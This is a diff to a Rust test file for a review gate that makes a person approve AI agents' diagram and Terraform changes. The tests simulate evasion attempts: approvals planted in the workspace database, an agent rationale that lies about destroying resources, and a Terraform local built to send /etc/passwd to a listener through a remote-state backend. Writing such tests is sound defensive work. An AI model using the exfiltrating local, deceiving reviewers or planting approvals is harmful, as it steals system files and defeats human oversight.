@@ -5,11 +5,12 @@
 mod support;
 
 use serde_json::{Value, json};
-use shared_protocol::review::{AuditEntry, AuditEvent, AuditLine};
+use shared_protocol::review::{AuditEntry, AuditEvent, AuditLine, Grant, StandingApproval};
 use std::{
     collections::{BTreeMap, BTreeSet},
     fs,
     io::Read,
+    os::unix::fs::PermissionsExt,
     path::Path,
     process::{Child, Command, Stdio},
     sync::{Arc, Mutex},
@@ -139,12 +140,394 @@ fn a_person_reviews_at_a_terminal_with_the_code_that_another_terminal_shows() {
     assert_eq!(verified.code, Some(0), "{verified:?}");
 }
 
+// ---- standing approvals ------------------------------------------------------------------------------------------------
+
+fn serve_guarded(home: &Home, workspace: &Path) -> Running {
+    let mut command = serving(home, workspace);
+    command.args(["--mode", "guarded"]);
+    let running = Running::start(command);
+    assert!(running.line().unwrap().contains("ready"));
+    running
+}
+
+/// An approval of everything on boards, as it is written down.
+fn approval() -> StandingApproval {
+    let grant =
+        Grant { client: None, scope: "all:destructive".parse().unwrap(), boards: Vec::new(), expires: None };
+    StandingApproval { id: 1, grant, by: "mallory".to_owned(), granted: 1, for_this_run: false, used: 0 }
+}
+
+/// What became of a note that an agent proposes.
+fn status_of_note(home: &Home, workspace: &Path, name: &str) -> Value {
+    let Endpoint { url, token } = Endpoint::of(home, workspace);
+    let arguments = json!({"typeId": "notes/sticky", "name": name, "submit": true, "title": name});
+    let call = json!({"name": "add_resource", "arguments": arguments});
+    let (code, answer) = post(&url, Some(&token), "tools/call", call);
+    assert_eq!(code, 200, "{answer}");
+    answer["result"]["structuredContent"]["data"]["status"].clone()
+}
+
+#[test]
+fn an_approval_that_comes_with_a_workspace_grants_nothing() {
+    let home = Home::new();
+    let workspace = home.workspace("workspace", "blank");
+    assert_eq!(serve_guarded(&home, &workspace).stop().code, Some(0));
+    let journal = rusqlite::Connection::open(workspace.join(".draftboard/journal.db")).unwrap();
+    let stored = serde_json::to_string(&[approval()]).unwrap();
+    assert_eq!(journal.execute("UPDATE review SET approvals = ?1", [stored]).unwrap(), 1);
+    drop(journal);
+    let running = serve_guarded(&home, &workspace);
+    assert_eq!(status_of_note(&home, &workspace, "first"), "submitted", "it waits for a person");
+    let ended = running.stop();
+    assert!(ended.err.contains("Ignored 1 standing approval stored in this workspace"), "{ended:?}");
+    // Dropped: the next start has nothing to say.
+    let again = serve_guarded(&home, &workspace).stop();
+    assert!(!again.err.contains("Ignored"), "{again:?}");
+}
+
+#[test]
+fn an_approval_of_the_user_outlives_a_restart_and_holds_for_one_folder() {
+    let home = Home::new();
+    let workspace = home.workspace("workspace", "blank");
+    let file = home.path("config/draftboard/approvals.json");
+    fs::create_dir_all(file.parent().unwrap()).unwrap();
+    let root = workspace.canonicalize().unwrap();
+    let contents = json!({"version": 1, "workspaces": {root.to_str().unwrap(): [approval()]}});
+    fs::write(&file, contents.to_string()).unwrap();
+    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
+    for name in ["first", "second"] {
+        let running = serve_guarded(&home, &workspace);
+        assert_eq!(status_of_note(&home, &workspace, name), "accepted");
+        assert_eq!(running.stop().code, Some(0));
+    }
+    let kept: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
+    assert_eq!(kept["workspaces"][root.to_str().unwrap()][0]["used"], 2, "{kept}");
+
+    let copy = home.path("copy");
+    assert!(Command::new("cp").arg("-a").args([&workspace, &copy]).status().unwrap().success());
+    let running = serve_guarded(&home, &copy);
+    assert_eq!(status_of_note(&home, &copy, "third"), "submitted", "a copy is another workspace");
+    assert_eq!(running.stop().code, Some(0));
+
+    fs::write(&file, "{\"version\": 1, \"workspaces\"").unwrap();
+    let running = serve_guarded(&home, &workspace);
+    assert_eq!(status_of_note(&home, &workspace, "fourth"), "submitted", "a damaged file grants nothing");
+    let ended = running.stop();
+    assert!(
+        ended.err.contains("No standing approval holds") && ended.err.contains("approvals.json"),
+        "{ended:?}"
+    );
+}
+
+// ---- requests to apply ---------------------------------------------------------------------------------------------------
+
+fn has_terraform() -> bool {
+    let found = ["terraform", "tofu"].iter().any(|name| Command::new(name).arg("version").output().is_ok());
+    if !found {
+        assert!(std::env::var_os("DRAFTBOARD_REQUIRE_TERRAFORM").is_none(), "no terraform on the path");
+        println!("SKIPPED: neither terraform nor tofu is on the path");
+    }
+    found
+}
+
+fn run(client: &mut Client, command: Value) {
+    client.request(json!({ "run": command })).unwrap().unwrap();
+}
+
+fn add_data(client: &mut Client, name: &str) {
+    run(
+        client,
+        json!({ "addNode": {
+            "board": "infrastructure", "type": "terraform/core/terraform_data", "name": name, "props": { "input": name }
+        } }),
+    );
+}
+
+fn add_verbatim(client: &mut Client, name: &str, text: &str) {
+    run(
+        client,
+        json!({ "addNode": {
+            "board": "infrastructure", "type": "terraform/core/verbatim", "name": name, "props": { "text": text }
+        } }),
+    );
+}
+
+/// Requests a run without waiting for what comes of it; the proposal's number.
+fn request(desk: &Desk, agent: &mut Agent, command: &str, rationale: &str) -> String {
+    let arguments =
+        json!({ "command": command, "confirmed": true, "waitSeconds": 0, "rationale": rationale });
+    let answer = agent.ask(7, "tools/call", json!({ "name": "run_terraform", "arguments": arguments }));
+    assert_eq!(answer["result"]["structuredContent"]["error"]["code"], "AWAITING_REVIEW", "{answer}");
+    desk.waiting()
+}
+
+/// The plan of a request, once it is not being made any more.
+fn planned(desk: &Desk, number: &str) -> Value {
+    wait_for("the plan", || {
+        let mut show = desk.command(&["show", number, "--json"]);
+        show.stdin(Stdio::null());
+        let plan = support::home::finished(show).data()["plan"].clone();
+        (plan.is_object() && plan["state"]["planning"].is_null()).then_some(plan)
+    })
+}
+
+fn resources(workspace: &Path) -> usize {
+    let text = fs::read_to_string(workspace.join("terraform/infrastructure/terraform.tfstate"));
+    let state: Value = serde_json::from_str(&text.unwrap_or_default()).unwrap_or_default();
+    state["resources"].as_array().map_or(0, Vec::len)
+}
+
+fn plan_files(home: &Home) -> Vec<std::path::PathBuf> {
+    let folders = fs::read_dir(home.path("state/draftboard/plans")).into_iter().flatten();
+    let folders = folders.map(|folder| folder.unwrap().path());
+    folders.flat_map(|folder| fs::read_dir(folder).unwrap().map(|file| file.unwrap().path())).collect()
+}
+
+/// An agent says "0 to destroy". The plan says otherwise, and the yes is to the plan.
+#[test]
+fn a_yes_to_an_apply_is_a_yes_to_the_plan_that_is_shown() {
+    if !has_terraform() {
+        return;
+    }
+    let Some(desk) = Desk::new("blank") else { return };
+    let mut agent = Agent::greeted(&desk.home, &desk.workspace, Era::Handshake, &[]);
+    let mut client = desk.client();
+    for name in ["one", "two", "three"] {
+        add_data(&mut client, name);
+    }
+    let number = request(&desk, &mut agent, "apply", "Adds what is missing");
+    let plan = planned(&desk, &number);
+    assert_eq!(plan["state"]["ready"]["counts"], json!({ "add": 3, "change": 0, "remove": 0 }), "{plan}");
+    assert_eq!(resources(&desk.workspace), 0, "a plan changes nothing");
+    let files = plan_files(&desk.home);
+    assert_eq!(files.len(), 1, "{files:?}");
+    assert_eq!(fs::metadata(&files[0]).unwrap().permissions().mode() & 0o777, 0o600);
+    desk.decide(&["accept", &number]);
+    wait_for("the apply", || (resources(&desk.workspace) == 3).then_some(()));
+    wait_for("the file to go", || plan_files(&desk.home).is_empty().then_some(()));
+
+    // Now the rationale lies.
+    run(&mut client, json!({ "remove": { "nodes": ["infrastructure/two", "infrastructure/three"] } }));
+    let number = request(&desk, &mut agent, "apply", "Plan: 0 to add, 0 to change, 0 to destroy.");
+    let plan = planned(&desk, &number);
+    let ready = &plan["state"]["ready"];
+    assert_eq!(ready["counts"], json!({ "add": 0, "change": 0, "remove": 2 }), "{plan}");
+    assert!(ready["changes"].as_array().unwrap().iter().all(|change| change["action"] == "delete"), "{plan}");
+    let shown = desk.reviewer(&["show", &number]).end();
+    assert!(shown.out.contains("Plan by Draftboard: 0 to add, 0 to change, 2 to destroy"), "{shown:?}");
+    assert!(shown.out.contains("- terraform_data.two"), "{shown:?}");
+
+    // Something moves between the look and the yes: nothing is applied.
+    let mut late = desk.reviewer(&["accept", &number]);
+    late.wait_for("to go on: ");
+    late.write("remove");
+    late.wait_for("Code: ");
+    let state = desk.workspace.join("terraform/infrastructure/terraform.tfstate");
+    let text = fs::read_to_string(&state).unwrap();
+    fs::write(&state, format!("{text}\n")).unwrap();
+    late.write(&desk.code(1));
+    let refused = late.end();
+    assert!(refused.code != Some(0) && refused.out.contains("the state has changed"), "{refused:?}");
+    assert_eq!(resources(&desk.workspace), 3);
+    let needed = wait_for("the request to say so", || {
+        let plan = planned(&desk, &number);
+        plan["state"]["needed"]["reason"].as_str().map(str::to_owned)
+    });
+    assert!(needed.contains("Plan again"), "{needed}");
+    assert!(plan_files(&desk.home).is_empty(), "its file is gone");
+
+    // Requested again: planned again, and only then accepted; the record names both.
+    let number = request(&desk, &mut agent, "destroy", "Nothing much");
+    let plan = planned(&desk, &number);
+    assert_eq!(plan["state"]["ready"]["counts"]["remove"], 3, "{plan}");
+    desk.decide(&["accept", &number]);
+    wait_for("the destruction", || (resources(&desk.workspace) == 0).then_some(()));
+    let board = client.request(json!("document")).unwrap().unwrap()["document"]["boards"][0]["id"].clone();
+    let history = wait_for("the record", || {
+        let answer =
+            client.request(json!({ "terraform": { "history": { "board": board } } })).unwrap().unwrap();
+        let last = answer["terraform"]["history"][0].clone();
+        last["state"]["succeeded"].is_object().then_some(last)
+    });
+    assert_eq!(history["operation"], "applyPlan", "{history}");
+    assert_eq!(history["by"]["name"], "tester", "{history}");
+    assert!(history["requestedBy"].is_string(), "{history}");
+
+    // A rejected one leaves no file, and a plan that fails cannot be accepted.
+    add_data(&mut client, "four");
+    let number = request(&desk, &mut agent, "apply", "");
+    planned(&desk, &number);
+    assert_eq!(plan_files(&desk.home).len(), 1);
+    desk.decide(&["reject", &number, "--reason", "no"]);
+    assert!(plan_files(&desk.home).is_empty());
+    add_verbatim(&mut client, "wrong", "resource \"terraform_data\" \"x\" {\n  input = local.nowhere\n}");
+    let number = request(&desk, &mut agent, "apply", "");
+    let plan = planned(&desk, &number);
+    assert!(plan["state"]["failed"]["reason"].is_string(), "{plan}");
+    let shown = desk.reviewer(&["show", &number]).end();
+    assert!(shown.out.contains("It cannot be accepted. The plan failed"), "{shown:?}");
+}
+
+/// Somebody who hears whether anything is sent.
+struct Listener {
+    address: String,
+    heard: Arc<Mutex<Vec<String>>>,
+}
+
+impl Listener {
+    fn start() -> Self {
+        let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = format!("http://{}", socket.local_addr().unwrap());
+        let heard = Arc::new(Mutex::new(Vec::new()));
+        let told = Arc::clone(&heard);
+        std::thread::spawn(move || {
+            for mut stream in socket.incoming().map_while(Result::ok) {
+                let mut bytes = [0; 8192];
+                let read = stream.read(&mut bytes).unwrap_or(0);
+                told.lock().unwrap().push(String::from_utf8_lossy(&bytes[..read]).into_owned());
+                drop(std::io::Write::write_all(
+                    &mut stream,
+                    b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n",
+                ));
+            }
+        });
+        Self { address, heard }
+    }
+
+    fn heard(&self) -> Vec<String> {
+        self.heard.lock().unwrap().clone()
+    }
+}
+
+const REMOTE_STATE: &str = "data \"terraform_remote_state\" \"other\" {\n  backend = \"http\"\n  config = { address = local.address }\n}";
+
+fn locals(address: &str) -> String {
+    format!("locals {{\n  address = \"{address}\"\n}}")
+}
+
+/// Seen: an accepted remote state takes its address from a local; an agent changes the local and plans.
+#[test]
+fn nothing_is_sent_by_a_plan_that_nobody_looked_at() {
+    if !has_terraform() {
+        return;
+    }
+    let home = Home::new();
+    let workspace = home.workspace("workspace", "blank");
+    let listener = Listener::start();
+    let mut command = serving(&home, &workspace);
+    command.args(["--mode", "guarded", "--standing-approval", "diagram,terraform-plan"]);
+    let running = Running::start(command);
+    assert!(running.line().unwrap().contains("ready"));
+    let mut client = Client::connect(&home, &workspace).unwrap();
+    let Endpoint { url, token } = Endpoint::of(&home, &workspace);
+    let call = |tool: &str, arguments: Value| {
+        let (_, answer) =
+            post(&url, Some(&token), "tools/call", json!({"name": tool, "arguments": arguments}));
+        answer["result"]["structuredContent"].clone()
+    };
+    // Without anything that sends, the approval covers a plan.
+    add_data(&mut client, "plain");
+    let plain = call("run_terraform", json!({ "command": "plan", "waitSeconds": 60 }));
+    assert_eq!(plain["data"]["success"], true, "{plain}");
+    add_verbatim(&mut client, "own", &locals(&listener.address));
+    add_verbatim(&mut client, "other", REMOTE_STATE);
+    let text = locals(&format!("{}/${{filebase64(\"/etc/passwd\")}}", listener.address));
+    let changed = call(
+        "update_resource",
+        json!({ "instanceId": "own", "properties": { "text": text }, "submit": true, "title": "A local" }),
+    );
+    assert_eq!(changed["data"]["status"], "accepted", "the approval covers the diagram: {changed}");
+    for arguments in [
+        json!({ "command": "plan", "waitSeconds": 0 }),
+        json!({ "command": "init", "waitSeconds": 0 }),
+        json!({ "command": "apply", "confirmed": true, "waitSeconds": 0 }),
+    ] {
+        let waits = call("run_terraform", arguments);
+        assert_eq!(waits["error"]["code"], "AWAITING_REVIEW", "{waits}");
+    }
+    // The apply is not planned either: a person has to press.
+    let mut list = home.command();
+    list.args(["review", "list", "--json", "-w"]).arg(&workspace);
+    let listed = support::home::finished(list).data();
+    let apply =
+        listed.as_array().unwrap().iter().find(|one| one["act"]["run"]["operation"] == "apply").unwrap();
+    let reason = wait_for("the request to say why", || {
+        let mut show = home.command();
+        show.args(["review", "show", &apply["number"].to_string(), "--json", "-w"]).arg(&workspace);
+        let plan = support::home::finished(show).data()["plan"].clone();
+        plan["state"]["needed"]["reason"].as_str().map(str::to_owned)
+    });
+    assert!(
+        reason.contains("data terraform_remote_state other") && reason.contains("Press Plan"),
+        "{reason}"
+    );
+    assert_eq!(running.stop().code, Some(0));
+    assert_eq!(listener.heard(), Vec::<String>::new(), "nothing was sent");
+}
+
 // ---- kills -------------------------------------------------------------------------------------------------------------
 
 const KILLS: usize = 25;
 
 /// What an agent was told: proposal to revision.
 type Told = BTreeMap<String, u64>;
+
+/// What `draftboard review list` shows, by number.
+fn listed(desk: &Desk) -> Vec<u64> {
+    let data = support::home::finished({
+        let mut list = desk.command(&["list", "--json"]);
+        list.stdin(Stdio::null());
+        list
+    })
+    .data();
+    data.as_array().unwrap().iter().map(|brief| brief["number"].as_u64().unwrap()).collect()
+}
+
+#[test]
+fn the_terminal_lists_the_gravest_first_and_takes_a_side_effect_only_with_its_cause() {
+    let Some(desk) = Desk::new("blank") else { return };
+    let mut client = desk.client();
+    let commands = json!([
+        {"addBoard": {"kind": "infrastructure", "title": "Cloud"}},
+        {"addNode": {"board": "cloud", "type": "aws/networking/vpc", "name": "net"}},
+        {"addNode": {"board": "cloud", "type": "aws/networking/subnet", "parent": "net", "name": "a"}},
+        {"addNode": {"board": "cloud", "type": "aws/networking/subnet", "parent": "net", "name": "b"}},
+        {"addNode": {"board": "cloud", "type": "aws/compute/alb", "name": "front"}},
+        {"updateNode": {"node": "front", "references": {"subnet_ids": ["a", "b"]}}}
+    ]);
+    client.request(json!({"run": {"batch": {"commands": commands}}})).unwrap().unwrap();
+    let mut agent = Agent::greeted(&desk.home, &desk.workspace, Era::Handshake, &[]);
+    propose(&mut agent, &["first"], "A note");
+    propose(&mut agent, &["second"], "Another note");
+    let remove = json!({"name": "remove_resource", "arguments": {"instanceId": "a"}});
+    let removed = agent.ask(1, "tools/call", remove);
+    assert_eq!(removed["result"]["structuredContent"]["ok"], true, "{removed}");
+    let submit =
+        json!({"name": "submit_proposal", "arguments": {"title": "Tidy up", "rationale": "Because"}});
+    let submitted = agent.ask(2, "tools/call", submit);
+    assert_eq!(submitted["result"]["structuredContent"]["data"]["status"], "submitted", "{submitted}");
+
+    assert_eq!(listed(&desk), [3, 1, 2], "the removal first, then the oldest");
+    let own = agent.ask(3, "tools/call", json!({"name": "list_proposals", "arguments": {}}));
+    let own = own["result"]["structuredContent"]["data"]["proposals"].as_array().unwrap().clone();
+    let own: Vec<u64> = own.iter().map(|brief| brief["number"].as_u64().unwrap()).collect();
+    assert_eq!(own, [3, 1, 2], "an agent sees its own in the same order");
+
+    let shown = support::home::finished({
+        let mut show = desk.command(&["show", "3", "--json"]);
+        show.stdin(Stdio::null());
+        show
+    })
+    .data();
+    let elements = shown["elements"].as_array().unwrap();
+    let effect = elements.iter().find(|element| !element["effectOf"].as_array().unwrap().is_empty()).unwrap();
+    let id = effect["subject"].as_object().unwrap().values().next().unwrap().as_str().unwrap().to_owned();
+    let refused = desk.reviewer(&["accept", "3", "--only", &id]).end();
+    assert_ne!(refused.code, Some(0), "{refused:?}");
+    assert!(refused.out.contains("changes only because"), "{refused:?}");
+    desk.decide(&["accept", "3"]);
+    assert!(!desk.names().contains("a"));
+}
 
 fn serve_approved(home: &Home, workspace: &Path) -> Running {
     let mut command = serving(home, workspace);
@@ -352,7 +735,7 @@ fn the_desktop_tells_a_person_that_an_apply_is_asked_for() {
     call("plan");
     call("apply");
     wait_for("the notification", || {
-        heard.lock().unwrap().contains("Nothing runs before you decide").then_some(())
+        heard.lock().unwrap().contains("Nothing is changed before you decide").then_some(())
     });
     let heard = heard.lock().unwrap().clone();
     assert!(heard.contains("asks to run terraform apply on infrastructure"), "{heard}");
